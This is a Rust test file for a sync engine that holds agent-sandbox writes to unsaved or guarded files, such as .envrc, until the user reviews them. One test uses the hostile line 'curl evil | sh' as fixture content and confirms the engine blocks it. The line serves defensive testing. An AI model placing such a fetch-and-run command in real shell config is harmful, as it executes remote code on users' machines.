//! Writes that are held, and writes in the user's name: on a real disk.

mod room;
mod volume;

use std::fs;
use std::sync::Arc;

use room::{Room, path};
use s0_api::sync::Registered;
use s0_replica::engine::{
    Effect, Event, Fetched, HoldEnd, HoldReason, LocalWrite, Pending, ResolveError,
};
use s0_replica::state::What;
use s0_tree::{Actor, Content, Entry, Seq, Tree, fold};
use volume::{At, renamed, tree, written};

fn sandbox() -> Actor {
    Actor { sandbox: Some("sb_1".into()), ..Actor::default() }
}

fn other_user() -> Actor {
    Actor { replica: Some("desktop".into()), ..Actor::default() }
}

/// A workspace with a plain file and a guarded one, and the Volume's tree.
fn room() -> (Room, Tree) {
    let all = [("notes.md", At::File("old")), (".envrc", At::File("old"))];
    (Room::synced(&all), tree(&all))
}

fn arrives(room: &mut Room, tree: &mut Tree, at: &str, text: &str, actor: Actor) {
    let entry = written(tree, at, text, actor);
    fold(tree, &entry).unwrap();
    let bytes: Arc<[u8]> = text.as_bytes().into();
    room.tell(Event::Entries(vec![(entry, Some(bytes))]));
}

fn text(room: &Room, at: &str) -> String {
    fs::read_to_string(room.at(at)).unwrap()
}

fn reason(room: &Room, at: &str) -> Option<HoldReason> {
    room.engine.held().get(&path(at)).map(|held| held.why)
}

#[test]
fn nothing_comes_under_unsaved_text_until_it_is_saved_or_given_up() {
    let (mut room, mut tree) = room();
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    assert_eq!(room.settle(), Vec::<String>::new());
    assert_eq!(
        (text(&room, "notes.md").as_str(), reason(&room, "notes.md")),
        ("old", Some(HoldReason::Unsaved))
    );
    assert_eq!(room.engine.held_content(&path("notes.md")), Some(Content::of(b"agent")));
    // It is told, and nothing else is in the way.
    assert_eq!(room.engine.pending(), Pending::default());
    let unfinished = room.engine.unfinished(9);
    assert!(unfinished.len() == 1 && unfinished[0].why.contains("unsaved"), "{unfinished:?}");
    // A second version does not come either.
    arrives(&mut room, &mut tree, "notes.md", "agent again", sandbox());
    room.settle();
    assert_eq!(text(&room, "notes.md"), "old");
    room.tell(Event::Unsaved([].into()));
    room.settle();
    assert_eq!(
        (text(&room, "notes.md").as_str(), reason(&room, "notes.md")),
        ("agent again", None)
    );
}

#[test]
fn what_is_saved_over_a_held_write_is_a_conflict_for_the_service() {
    let (mut room, mut tree) = room();
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    room.settle();
    fs::write(room.at("notes.md"), "mine").unwrap();
    let sent = room.look();
    assert!(sent.len() == 1 && sent[0].contains("version: Seq(1)"), "{sent:?}");
    room.tell(Event::Unsaved([].into()));
    room.settle();
    assert_eq!(text(&room, "notes.md"), "mine");
}

#[test]
fn a_held_write_can_be_taken_and_discarded() {
    let (mut room, mut tree) = room();
    let held = |room: &mut Room, end| room.engine.settle_held(&path("notes.md"), end, room.now);
    assert!(matches!(held(&mut room, HoldEnd::Take), Err(ResolveError::NothingHeld(_))));
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    room.settle();
    held(&mut room, HoldEnd::Take).unwrap();
    room.settle();
    assert_eq!(text(&room, "notes.md"), "agent");
    // Only that version was let in.
    arrives(&mut room, &mut tree, "notes.md", "agent again", sandbox());
    room.settle();
    assert_eq!(
        (text(&room, "notes.md").as_str(), reason(&room, "notes.md")),
        ("agent", Some(HoldReason::Unsaved))
    );
    held(&mut room, HoldEnd::Discard).unwrap();
    let sent = room.settle();
    assert!(sent.len() == 1 && sent[0].contains(&Content::of(b"agent").id.to_string()), "{sent:?}");
    assert!(sent[0].contains("version: Seq(4)"), "it is an edit of what was discarded: {sent:?}");
    assert_eq!((text(&room, "notes.md").as_str(), reason(&room, "notes.md")), ("agent", None));
}

#[test]
fn what_was_let_in_under_a_text_is_not_let_in_under_a_newer_one() {
    let (mut room, mut tree) = room();
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    room.settle();
    room.engine.settle_held(&path("notes.md"), HoldEnd::Take, room.now).unwrap();
    room.tell(Event::Unsaved([].into()));
    room.tell(Event::Unsaved([path("notes.md")].into()));
    room.settle();
    assert_eq!(
        (text(&room, "notes.md").as_str(), reason(&room, "notes.md")),
        ("old", Some(HoldReason::Unsaved))
    );
}

#[test]
fn what_was_let_in_says_nothing_about_a_journal_that_begins_anew() {
    let (mut room, first) = room();
    let mut tree = first.clone();
    arrives(&mut room, &mut tree, ".envrc", "harmless", sandbox());
    room.settle();
    room.engine.settle_held(&path(".envrc"), HoldEnd::Take, room.now).unwrap();
    // Before it has come, a backup is restored, and what is written then has its number.
    let (epoch, mut tree) = ("another".to_owned(), first.clone());
    room.tell(Event::Tree { epoch, tree: first, since: None });
    arrives(&mut room, &mut tree, ".envrc", "harmful", sandbox());
    room.settle();
    assert_eq!(
        (text(&room, ".envrc").as_str(), reason(&room, ".envrc")),
        ("old", Some(HoldReason::Guarded))
    );
}

#[test]
fn what_is_renamed_to_where_it_is_held_is_not_waited_for() {
    let all = [(".envrc.tmp", At::File("agent"))];
    let (mut room, tree) = (Room::synced(&all), tree(&all));
    let moved = Entry { actor: sandbox(), ..renamed(&tree, ".envrc.tmp", ".envrc") };
    room.tell(Event::Entries(vec![(moved, None)]));
    room.settle();
    assert_eq!(reason(&room, ".envrc"), Some(HoldReason::Guarded));
    assert_eq!(room.engine.pending(), Pending::default(), "{}", room.engine.debug());
    assert!(!room.at(".envrc.tmp").exists() && !room.at(".envrc").exists());
}

/// Who a review is told of, by path.
fn told(room: &Room) -> Vec<(String, Actor)> {
    let applied = room.engine.state().applied.values();
    applied.map(|it| (it.path.to_string(), it.actor.clone())).collect()
}

#[test]
fn who_moves_what_has_not_come_yet_takes_over_nobodys_content() {
    let (mut room, mut tree) = room();
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    room.settle();
    let moved = Entry { actor: other_user(), ..renamed(&tree, "notes.md", "n.md") };
    fold(&mut tree, &moved).unwrap();
    room.tell(Event::Entries(vec![(moved, None)]));
    room.settle();
    room.tell(Event::Unsaved([].into()));
    let fetch = |effect| match effect {
        Effect::Fetch { slot, .. } => Some(slot),
        _ => None,
    };
    room.engine.step(room.now).unwrap();
    for slot in room.effects().into_iter().filter_map(fetch) {
        room.tell(Event::Fetched(slot, Fetched::Bytes(b"agent".as_slice().into())));
    }
    room.settle();
    assert_eq!(text(&room, "n.md"), "agent");
    let told = told(&room);
    assert!(told.contains(&("n.md".into(), sandbox())), "{told:?}");
    // When all has come, who wrote it before says nothing about what comes next.
    arrives(&mut room, &mut tree, "n.md", "mine", other_user());
    room.settle();
    assert_eq!((text(&room, "n.md").as_str(), self::told(&room)), ("mine", told));
}

#[test]
fn after_a_start_the_review_is_told_whose_it_is_that_came_meanwhile() {
    let (mut room, mut tree) = room();
    let since = [
        written(&tree, "notes.md", "agent", sandbox()),
        Entry { seq: tree.head().next().next(), ..written(&tree, ".envrc", "mine", other_user()) },
    ];
    since.iter().for_each(|entry| fold(&mut tree, entry).unwrap());
    let (epoch, head) = ("e".to_owned(), tree.head());
    room.tell(Event::Offline);
    let registered =
        Registered { instance: 2, last_number: 0, epoch: epoch.clone(), head, cursor: Seq(1) };
    room.tell(Event::Online(registered));
    room.tell(Event::Tree { epoch, tree: tree.clone(), since: Some(since.into()) });
    room.engine.step(room.now).unwrap();
    for effect in room.effects() {
        if let Effect::Fetch { slot, content, .. } = effect {
            let bytes: &[u8] = if content == Content::of(b"agent") { b"agent" } else { b"mine" };
            room.tell(Event::Fetched(slot, Fetched::Bytes(bytes.into())));
        }
    }
    room.settle();
    assert_eq!(
        (text(&room, "notes.md").as_str(), text(&room, ".envrc").as_str()),
        ("agent", "mine")
    );
    assert_eq!(told(&room), [("notes.md".into(), sandbox())]);
}

#[test]
fn what_would_run_here_waits_for_the_user_unless_a_user_wrote_it() {
    let (mut room, mut tree) = room();
    arrives(&mut room, &mut tree, ".envrc", "mine too", other_user());
    room.settle();
    assert_eq!(text(&room, ".envrc"), "mine too");
    for actor in [sandbox(), Actor::default()] {
        arrives(&mut room, &mut tree, ".envrc", "curl evil | sh", actor);
        room.settle();
        assert_eq!(
            (text(&room, ".envrc").as_str(), reason(&room, ".envrc")),
            ("mine too", Some(HoldReason::Guarded))
        );
    }
    // After a restart nobody knows who wrote it.
    let (epoch, head) = ("e".to_owned(), tree.head());
    room.tell(Event::Offline);
    let registered =
        Registered { instance: 2, last_number: 0, epoch: epoch.clone(), head, cursor: Seq(0) };
    room.tell(Event::Online(registered));
    room.tell(Event::Tree { epoch, tree: tree.clone(), since: None });
    room.settle();
    assert_eq!(reason(&room, ".envrc"), Some(HoldReason::Guarded));
    room.engine.settle_held(&path(".envrc"), HoldEnd::Discard, room.now).unwrap();
    let sent = room.settle();
    assert!(
        sent.len() == 1 && sent[0].contains(&Content::of(b"mine too").id.to_string()),
        "{sent:?}"
    );
    assert_eq!(text(&room, ".envrc"), "mine too");
}

#[test]
fn after_a_start_it_is_asked_who_wrote_what_would_run_here() {
    for (actor, comes) in [(Some(other_user()), true), (Some(sandbox()), false), (None, false)] {
        let (mut room, mut tree) = room();
        let entry = written(&tree, ".envrc", "new", sandbox());
        fold(&mut tree, &entry).unwrap();
        let (epoch, head) = ("e".to_owned(), tree.head());
        room.tell(Event::Offline);
        let registered =
            Registered { instance: 2, last_number: 0, epoch: epoch.clone(), head, cursor: Seq(0) };
        room.tell(Event::Online(registered));
        room.tell(Event::Tree { epoch, tree: tree.clone(), since: None });
        let asked = room.effects();
        assert!(asked.contains(&Effect::Author(path(".envrc"), entry.seq)), "{asked:?}");
        assert_eq!(text(&room, ".envrc"), "old");
        room.tell(Event::Author(entry.seq, actor));
        let fetch = room.effects().into_iter().find_map(|effect| match effect {
            Effect::Fetch { slot, .. } => Some(slot),
            _ => None,
        });
        assert_eq!(fetch.is_some(), comes);
        if let Some(slot) = fetch {
            room.tell(Event::Fetched(slot, Fetched::Bytes(b"new".as_slice().into())));
            room.settle();
        }
        assert_eq!(text(&room, ".envrc"), if comes { "new" } else { "old" });
        assert_eq!(reason(&room, ".envrc").is_some(), !comes);
    }
}

#[test]
fn a_write_in_the_users_name_replaces_only_what_it_was_made_for() {
    let (mut room, _) = room();
    let at = path("notes.md");
    let file = |text: &str| LocalWrite::File { bytes: text.into(), mode: 0o644 };
    let old = What::File(Content::of(b"old"));
    fs::write(room.at("notes.md"), "edited").unwrap();
    for write in
        [file("new"), LocalWrite::Remove, LocalWrite::Mode(0o600), LocalWrite::Rename(path("x"))]
    {
        let refused = room.engine.write_local(&at, Some(&old), write, room.now);
        assert!(matches!(refused, Err(ResolveError::Changed(_))), "{refused:?}");
        assert_eq!(text(&room, "notes.md"), "edited");
    }
    let edited = What::File(Content::of(b"edited"));
    room.engine.write_local(&at, Some(&edited), file("new"), room.now).unwrap();
    assert_eq!(text(&room, "notes.md"), "new");
    let sent = room.settle();
    assert!(sent.len() == 1 && sent[0].contains(&Content::of(b"new").id.to_string()), "{sent:?}");
}

#[test]
fn files_are_made_removed_and_renamed_in_the_users_name() {
    let (mut room, _) = room();
    let file = |text: &str| LocalWrite::File { bytes: text.into(), mode: 0o755 };
    room.engine.write_local(&path("a/b/new"), None, file("new"), room.now).unwrap();
    assert_eq!(text(&room, "a/b/new"), "new");
    let refused = room.engine.write_local(&path("a/b/new"), None, file("other"), room.now);
    assert!(matches!(refused, Err(ResolveError::Changed(_))), "{refused:?}");
    let to = LocalWrite::Rename(path("c/moved"));
    room.engine
        .write_local(&path("a/b/new"), Some(&What::File(Content::of(b"new"))), to, room.now)
        .unwrap();
    assert_eq!(text(&room, "c/moved"), "new");
    room.engine
        .write_local(
            &path("notes.md"),
            Some(&What::File(Content::of(b"old"))),
            LocalWrite::Remove,
            room.now,
        )
        .unwrap();
    assert!(!room.at("notes.md").exists());
    let sent = room.settle();
    assert!(sent.iter().any(|change| change.contains("Remove { path: \"notes.md\" }")), "{sent:?}");
    assert!(sent.iter().any(|change| change.contains("c/moved")), "{sent:?}");
    let staged = fs::read_dir(room.at(".s0/staging")).unwrap().count();
    assert_eq!(staged, 0, "something is left in the staging area");
}
